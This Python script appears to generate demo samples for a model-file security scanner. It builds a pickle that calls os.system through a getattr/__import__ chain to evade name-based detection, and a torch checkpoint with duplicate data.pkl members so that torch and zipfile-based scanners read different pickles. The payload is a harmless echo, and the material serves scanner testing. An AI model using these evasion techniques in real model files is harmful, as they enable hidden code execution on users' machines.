# /// script
# requires-python = ">=3.10"
# dependencies = ["torch==2.13.0"]
# ///
"""Write the ``torchless scan`` demo samples into ``samples/scan/`` (run: python samples/gen_scan.py).

Two hostile files whose payload is only ``echo torchless-demo-payload`` (nothing is
written or changed), and they are never loaded here:

* ``evil_getattr.pkl``: ``getattr(__import__('os'), 'system')('echo ...')``, a chain that
  name-based scanners see as ``builtins.getattr`` only;
* ``evil_duplicate.pt``: a torch checkpoint with two ``data.pkl`` members; torch reads the
  malicious copy, Python's zipfile (and scanners built on it) the clean one.

Plus ``ok_checkpoint.pt`` (a torch-written state dict with an argparse config) for the
allowlist advice. Demo: ``torchless scan samples/scan``.
"""

from __future__ import annotations

import argparse
import io
import os
import struct
import zipfile
import zlib

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "scan")
CMD = "echo torchless-demo-payload"


def G(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def S(s: str) -> bytes:
    return b"X" + struct.pack("<I", len(s)) + s.encode()


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + b"(" + b"".join(args) + b"tR"


def raw_zip(entries: list[tuple[str, bytes]]) -> bytes:
    out, central = bytearray(), bytearray()
    for name, data in entries:
        crc, n = zlib.crc32(data), name.encode()
        off = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(n), 0) + n + data
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data), len(n), 0, 0, 0, 0, 0, off
            )
            + n
        )
    cd = len(out)
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), cd, 0)
    return bytes(out)


def main() -> None:
    import torch

    os.makedirs(HERE, exist_ok=True)
    chain = call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), S("os")), S("system")), S(CMD))
    with open(os.path.join(HERE, "evil_getattr.pkl"), "wb") as f:
        f.write(b"\x80\x02" + chain + b".")
    lin = torch.nn.Linear(4, 2)
    buf = io.BytesIO()
    torch.save(lin.state_dict(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist()]
    clean = dict(members)["archive/data.pkl"]
    evil = clean[:2] + call(G("os", "system"), S(CMD)) + b"0" + clean[2:]
    ents = [("archive/data.pkl", evil)] + [m for m in members if not m[0].endswith("/data.pkl")] + [("archive/data.pkl", clean)]
    with open(os.path.join(HERE, "evil_duplicate.pt"), "wb") as f:
        f.write(raw_zip(ents))
    torch.save(
        {"args": argparse.Namespace(lr=0.1, arch="mlp"), "model": lin.state_dict()}, os.path.join(HERE, "ok_checkpoint.pt")
    )


if __name__ == "__main__":
    main()
